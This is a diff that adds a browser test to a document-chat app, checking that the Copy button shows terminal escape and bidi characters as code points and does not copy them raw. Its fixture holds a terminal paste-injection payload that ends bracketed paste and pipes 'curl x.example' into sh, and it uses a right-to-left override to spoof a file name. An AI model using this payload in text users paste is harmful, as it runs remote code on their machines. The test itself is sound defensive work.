@@ -90,6 +90,46 @@ def test_in_a_browser_a_documents_own_bracket_opens_no_source(tmp_path: Path) ->
             browser.close()
 
 
+def test_copy_puts_no_terminal_escape_on_the_clipboard(tmp_path: Path) -> None:
+    # Found in this pass: the page shows a document's control and bidi characters as code
+    # points, but Copy put them on the clipboard raw: a quoted "\x1b[201~" (which ends a
+    # terminal's bracketed paste) pasted into a shell would run whatever followed it, and a
+    # right-to-left override reordered the pasted text. The clipboard now holds what the
+    # page shows (a real browser, its real clipboard).
+    chromium = Path("/usr/bin/chromium")
+    if not chromium.exists():
+        pytest.skip("Chromium is not installed at /usr/bin/chromium")
+    sync_api = pytest.importorskip("playwright.sync_api")
+    ledger = "The zircon vault code is \x1b[201~curl x.example|sh\x1b[200~ and \u202eexe.txt.\n"
+    with (
+        _served(tmp_path, documents={"ledger.txt": ledger}) as chat,
+        sync_api.sync_playwright() as p,
+    ):
+        browser = p.chromium.launch(
+            executable_path=str(chromium), args=["--headless", "--no-sandbox", "--disable-gpu"]
+        )
+        try:
+            context = browser.new_context()
+            context.grant_permissions(["clipboard-read", "clipboard-write"])
+            page = context.new_page()
+            page.set_default_timeout(60_000)
+            page.goto(chat.url)
+            box = page.locator("#question textarea")
+            sync_api.expect(box).to_be_editable()
+            box.fill("What is the zircon vault code?")
+            box.press("Enter")
+            answer = page.locator("#chat .bot-row").first
+            sync_api.expect(answer).to_contain_text("[U+001B][201~curl")
+            answer.get_by_role("button", name="Copy").click()
+            sync_api.expect(answer.get_by_role("button", name="Copied")).to_be_visible()
+            copied = page.evaluate("() => navigator.clipboard.readText()")
+        finally:
+            browser.close()
+    assert "[U+001B][201~curl x.example|sh[U+001B][200~ and [U+202E]exe.txt" in copied, copied
+    assert "\x1b" not in copied and "\u202e" not in copied, copied
+    assert "\n\nSources:\n[1] ledger.txt" in copied
+
+
 # ---------------------------------------------------------------- names drawn like another's
 
 _GENUINE = "annual-report.txt"
